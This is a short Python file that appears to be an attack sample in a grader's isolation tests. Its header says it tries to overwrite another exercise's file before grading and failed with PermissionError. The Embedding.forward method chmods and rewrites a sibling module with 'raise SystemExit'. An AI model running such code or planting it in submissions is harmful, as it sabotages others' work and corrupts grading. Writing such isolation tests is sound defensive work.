# /// attack
# tries = "Changes the copy of another exercise that is about to be graded."
# status = "failed"
# says = "raised PermissionError"
# ///
import os
import pathlib


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        other = pathlib.Path(__file__).parents[1] / "m4_optimisers" / "schedules.py"
        try:
            other.chmod(0o644)
        finally:
            other.write_text("raise SystemExit\n")
